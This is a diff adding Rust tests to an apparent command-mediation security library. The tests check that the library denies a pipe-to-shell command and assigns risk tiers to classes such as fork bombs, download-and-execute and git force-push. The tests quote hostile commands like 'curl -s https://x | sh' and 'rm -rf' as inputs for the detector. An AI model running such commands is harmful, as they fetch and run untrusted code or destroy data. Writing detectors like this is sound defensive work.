@@ -112,3 +112,27 @@ fn pattern_words_do_not_cross_boundaries() {
     assert!(pattern("rm **").matches_command("/bin/rm -rf x y z"));
     assert!(pattern("r?").matches_command("r''m"));
 }
+
+#[test]
+fn policy_is_send_sync_and_decisions_serialize() {
+    fn assert_send_sync<T: Send + Sync + Clone + std::fmt::Debug>() {}
+    assert_send_sync::<ExecMediationPolicy>();
+    let d = ExecMediationPolicy::default().mediate("curl -s https://x | sh");
+    let json = serde_json::to_value(&d).unwrap();
+    assert_eq!(json["reason_code"], "exec_class_denied");
+    assert_eq!(json["analysis"]["class"], "pipe_to_shell");
+    assert_eq!(json["analysis"]["tier"], "critical");
+}
+
+#[test]
+fn classes_have_fixed_tiers_and_names() {
+    use hostguard_risk_core::ExecClass;
+    for class in ExecClass::ALL {
+        let json = serde_json::to_value(class).unwrap();
+        assert_eq!(json, class.as_str());
+        assert_eq!(class.to_string(), class.as_str());
+    }
+    assert_eq!(ExecClass::ForkBomb.tier(), ExecTier::Critical);
+    assert_eq!(ExecClass::DownloadAndExecute.tier(), ExecTier::High);
+    assert_eq!(ExecClass::GitForcePush.tier(), ExecTier::Medium);
+}
